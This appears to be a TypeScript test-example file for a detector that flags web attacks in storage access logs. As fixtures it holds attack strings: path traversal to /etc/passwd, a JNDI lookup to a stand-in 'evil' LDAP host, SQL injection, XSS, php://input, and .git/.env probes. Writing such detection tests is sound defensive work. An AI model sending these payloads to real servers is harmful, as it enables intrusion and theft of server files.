import type { Example } from '../lib/analysis.ts'
import { ADA, logLine } from '../lib/samples/sample-lines.ts'

const get = (uri: string, fields = {}) =>
  logLine({ operation: 'REST.GET.OBJECT', key: 'k', uri: `GET ${uri} HTTP/1.1`, ...fields })
const failed = { status: 404, errorCode: 'NoSuchKey', requester: '-' }

export const examples: readonly Example[] = [
  {
    title: 'finds attacks in request lines and referrers, plain or encoded, and names them',
    log: 'access-log',
    lines: [
      get('/../../etc/passwd', { at: '01:00', ...failed }),
      get('/%2E%2E%2Fsecret', { at: '02:00', ...failed }),
      get('/x?q=%24%7Bjndi:ldap://evil%7D', { at: '03:00', ...failed }),
      get('/x?q=1%27%20or%201=1', { at: '04:00', ...failed }),
      get('/.git/config', { at: '05:00', ...failed }),
      get('/index.html', { at: '06:00', referrer: '<script>alert(1)</script>', ...failed }),
      get('/x?page=php://input', { at: '07:00', ...failed }),
    ],
    rows: [
      { attack: 'path traversal', requester: '(anonymous)' },
      { attack: 'path traversal' },
      { attack: 'JNDI lookup' },
      { attack: 'SQL injection' },
      { attack: 'files of a server' },
      { attack: 'scripting' },
      { attack: 'PHP code' },
    ],
    headline:
      '7 requests to my-bucket carry what web attacks are made of, all by (anonymous) from 203.0.113.7',
    severity: 'low',
  },
  {
    title: 'takes no ordinary address for one',
    log: 'access-log',
    lines: [
      get('/v1..2/notes.txt'),
      get('/organisation/select-union.csv'),
      get('/my.environment/orders'),
      get('/scripts/app.js?versionId=a.b'),
    ],
    rows: [],
    headline: 'No request to my-bucket carries a known web attack',
  },
  {
    title: 'finds one kind of them, by one person, and minds that it was answered',
    log: 'access-log',
    lines: ['/.env', '/../a'].flatMap(uri => [
      get(uri),
      get(uri, { requester: 'arn:aws:iam::111122223333:user/bob' }),
    ]),
    parameters: { kind: 'files of a server', requester: 'ada' },
    rows: [{ attack: 'files of a server', requester: ADA }],
    headline: '1 request to my-bucket carries',
    severity: 'medium',
  },
]
